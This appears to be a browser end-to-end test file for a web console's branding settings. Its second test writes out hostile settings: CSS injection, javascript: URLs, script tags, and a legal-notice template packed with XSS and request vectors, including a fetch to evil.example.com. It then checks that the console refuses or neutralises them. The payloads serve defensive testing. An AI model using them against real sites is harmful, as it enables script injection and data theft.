// Stories of the look that the configuration gives to the console.
import assert from "node:assert/strict";
import net from "node:net";
import { assertAccessible, requestAsAdmin, expectViolations, openWindow, origin, allowedOrigins, pictureFolder, signIn } from "../driver.mjs";

/** Sets uiSettings, and takes them back. */
async function setLook(context, uiSettings) {
  const answer = await requestAsAdmin(context, "PATCH", "config/config", { status: { uiSettings } }, "application/merge-patch+json");
  assert.equal(answer.status(), 200, await answer.text());
}

const logoSVG = '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="32"><rect width="120" height="32" fill="teal"/></svg>';

export const stories = {
  async "the console has the look of the configuration"() {
    const { context, page, problems } = await openWindow({ viewport: { width: 1240, height: 800 }, reducedMotion: "reduce" });
    const cdn = "https://cdn.example.com";
    allowedOrigins.add(cdn);
    // axe asks for the style sheet again, to read it.
    expectViolations(/^Connecting to .*own\.css/);
    const asked = [];
    await context.route(`${cdn}/**`, (route) => {
      asked.push(new URL(route.request().url()).pathname);
      const sheet = route.request().url().endsWith(".css");
      return route.fulfill(sheet ? { contentType: "text/css", body: ".title { letter-spacing: 3px } dialog { letter-spacing: 3px }" } : { contentType: "image/svg+xml", body: logoSVG });
    });
    await setLook(context, {
      primaryColor: "yellow", accentColor: "#0a5c36", sidebarColor: "#202040", logoBackgroundColor: "white",
      logoURL: `${cdn}/logo.svg`, smallLogoURL: `${cdn}/small.svg`, faviconURL: `${cdn}/icon.svg`, customCss: [`${cdn}/own.css`],
      legalTemplate: '<style>p { color: #0000ff }</style><p>For <a href="https://example.com/terms">members</a> only.</p>',
      navBarButtons: [{ text: "Wiki", link: `${cdn}/wiki`, position: "TopStart", icon: `${cdn}/wiki.svg` }, { text: "Status", link: "/healthz", position: "TopEnd" }, { text: "Help", link: "mailto:help@example.com" }],
    });
    await page.goto(`${origin}/console/keys`);
    const legal = page.frameLocator('iframe[title="Legal notice"]');
    await legal.getByText("members").waitFor();
    // The document has this rule as well: either of them is enough.
    assert.equal(await page.locator('iframe[title="Legal notice"]').getAttribute("sandbox"), "allow-popups allow-popups-to-escape-sandbox");
    assert.equal(await legal.locator("p").evaluate((one) => getComputedStyle(one).color), "rgb(0, 0, 255)");
    await page.getByRole("img", { name: "Platform console" }).waitFor();
    for (const colorScheme of ["light", "dark"]) {
      await page.emulateMedia({ colorScheme });
      await assertAccessible(page, `the sign-in with a look, ${colorScheme}`);
      if (pictureFolder) await page.screenshot({ path: `${pictureFolder}/look-sign-in-${colorScheme}.png` });
    }
    assert.ok(!asked.includes("/own.css"), "a style sheet of others on the sign-in");
    await signIn(page);
    const spacing = (selector) => page.locator(selector).first().evaluate((one) => getComputedStyle(one).letterSpacing);
    await page.waitForFunction(() => getComputedStyle(document.querySelector(".title")).letterSpacing === "3px");
    const wiki = page.getByRole("navigation", { name: "Links", exact: true }).getByRole("link", { name: "Wiki" });
    assert.deepEqual(await wiki.evaluate((one) => [one.href, one.rel, one.target]), [`${cdn}/wiki`, "noopener noreferrer", "_blank"]);
    await page.getByRole("link", { name: "Help" }).waitFor();
    // A state is told by a word and a mark, whatever the colours of the brand are.
    const chip = page.locator("tbody .chip.good").first();
    const [mark, ...colours] = await chip.evaluate((one) => [getComputedStyle(one, "::before").content, getComputedStyle(one).color, getComputedStyle(document.body).color]);
    assert.match(mark, /✓/);
    assert.equal(colours[0], colours[1]);
    assert.notEqual(await chip.textContent(), "");
    for (const colorScheme of ["light", "dark"]) {
      await page.emulateMedia({ colorScheme });
      for (const width of [1240, 320]) {
        await page.setViewportSize({ width, height: 800 });
        await assertAccessible(page, `the keys with a look at ${width}, ${colorScheme}`);
        if (pictureFolder) await page.screenshot({ path: `${pictureFolder}/look-${width}-${colorScheme}.png` });
        const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
        assert.ok(wide <= 0, `at ${width} the page is ${wide} too wide`);
      }
    }
    await page.setViewportSize({ width: 1240, height: 800 });
    assert.equal(await page.locator("header").evaluate((one) => getComputedStyle(one).backgroundColor), "rgb(32, 32, 64)");
    // While a secret is shown, the style sheet is off.
    await page.getByRole("button", { name: "New key" }).click();
    assert.equal(await spacing("dialog"), "3px");
    assert.equal(await page.getByRole("button", { name: "Create key" }).evaluate((one) => getComputedStyle(one).backgroundColor), "rgb(255, 255, 0)");
    await page.getByLabel("Name", { exact: true }).fill("looked-at");
    await page.getByRole("button", { name: "Create key" }).click();
    await page.locator(".secret").waitFor();
    assert.equal(await spacing("dialog"), "normal");
    assert.equal(await page.locator('link[href$="own.css"]').count(), 0);
    await page.getByRole("button", { name: "I have saved it" }).click();
    await page.waitForFunction(() => getComputedStyle(document.querySelector(".title")).letterSpacing === "3px");
    await page.goto(`${origin}/console/tokens?plain`);
    await page.getByRole("table").waitFor();
    assert.equal(await page.locator('link[href$="own.css"]').count(), 0);
    assert.match(await page.getByRole("link", { name: "Home" }).getAttribute("href"), /\?plain$/);
    await requestAsAdmin(context, "DELETE", "ownedaccesskeys/looked-at");
    // A picture that is not there leaves the built-in look.
    await context.unroute(`${cdn}/**`);
    await context.route(`${cdn}/**`, (route) => route.fulfill({ status: 404 }));
    await page.goto(`${origin}/console/keys`);
    await page.locator(".brand", { hasText: "Platform console" }).waitFor();
    await setLook(context, null);
    expectViolations();
    assert.deepEqual(problems, []);
    await context.close();
  },
  async "hostile settings of the look run no script, and request nothing"() {
    const { context, page, problems } = await openWindow();
    const evil = "https://evil.example.com";
    // A request that a policy refuses is announced, and not sent.
    allowedOrigins.add(evil);
    expectViolations(/evil\.example\.com|\/console\/x|^Running the JavaScript URL|127\.0\.0\.1:\d+\/(prefetch|preload|module)/);
    const asked = [];
    // A browser that only connects sends no request: a listener sees it.
    let connections = 0;
    const listener = net.createServer((socket) => { connections++; socket.destroy(); });
    await new Promise((done) => listener.listen(0, "127.0.0.1", done));
    const knocked = `127.0.0.1:${listener.address().port}`;
    allowedOrigins.add(`https://${knocked}`);
    await context.route(`${evil}/**`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ contentType: "text/css", body: "" });
    });
    // Some of it the API refuses.
    for (const [field, value] of Object.entries({ primaryColor: `red}*{background:url(${evil}/x)`, navBarButtons: [{ text: "x", link: "javascript:globalThis.broken=1" }], logoURL: "javascript:1" })) {
      const answer = await requestAsAdmin(context, "PATCH", "config/config", { status: { uiSettings: { [field]: value } } }, "application/merge-patch+json");
      assert.equal(answer.status(), 422, field);
    }
    await setLook(context, {
      logoURL: `${evil}/logo.png`, smallLogoURL: `${evil}/small.png`, faviconURL: `${evil}/icon.png`, customCss: [`${evil}/own.css`, `${evil}/x;script-src`], customJavaScript: [`${evil}/own.js`],
      navBarButtons: [{ text: '"><script>globalThis.broken=1</script>', link: "/x", icon: `${evil}/i.png` }], externalURLs: { block: true, allow: ["https://other.example.com"] },
      legalTemplate: `</iframe><script>parent.broken=1;top.broken=1;fetch("${evil}/fetch")</script><img src=x onerror="top.broken=1"><img src="${evil}/p.png">
        <meta http-equiv="refresh" content="0;url=${evil}/refresh"><form id=f action="${evil}/form"><button>Send</button></form><base href="${evil}/">
        <link rel=preconnect href="https://${knocked}"><link rel=preconnect href="https://${knocked}" crossorigin><link rel=dns-prefetch href="https://${knocked}">
        <link rel=prefetch href="https://${knocked}/prefetch"><link rel=preload as=image href="https://${knocked}/preload"><link rel=modulepreload href="https://${knocked}/module">
        <link rel=stylesheet href="${evil}/legal.css"><style>@import "${evil}/import.css"; body { background: url(${evil}/bg.png) }</style>
        <iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><a href="javascript:top.broken=1">run</a><a target="_top" href="${evil}/top">leave</a>`,
    });
    await page.goto(`${origin}/console/keys`);
    const legal = page.frameLocator('iframe[title="Legal notice"]');
    for (const name of ["run", "Send", "leave"]) await legal.getByText(name, { exact: true }).click();
    await page.waitForTimeout(300); // what would be requested is on its way
    await page.waitForLoadState("networkidle");
    assert.equal(page.url(), `${origin}/console/keys`);
    assert.equal(await page.evaluate(() => globalThis.broken), undefined);
    await signIn(page);
    await page.getByRole("link", { name: "globalThis" }).waitFor();
    assert.deepEqual(asked, []);
    assert.equal(await page.evaluate(() => globalThis.broken), undefined);
    // The pages of the sign-in show the same, and so do pages about refusals.
    await page.goto(`${origin}/auth/confirm?id=absent`);
    await page.frameLocator('iframe[title="Legal notice"]').getByText("leave").waitFor();
    assert.equal(await page.getByRole("img").count(), 0);
    await page.waitForLoadState("networkidle");
    assert.deepEqual(asked, []);
    assert.equal(await page.evaluate(() => globalThis.broken), undefined);
    // The listener does see who connects.
    assert.equal(connections, 0, "the legal notice connects to another host");
    await page.goto(`https://${knocked}/`).catch(() => undefined);
    assert.ok(connections > 0);
    listener.close();
    await setLook(context, null);
    expectViolations();
    assert.deepEqual(problems, []);
    await context.close();
  },
};
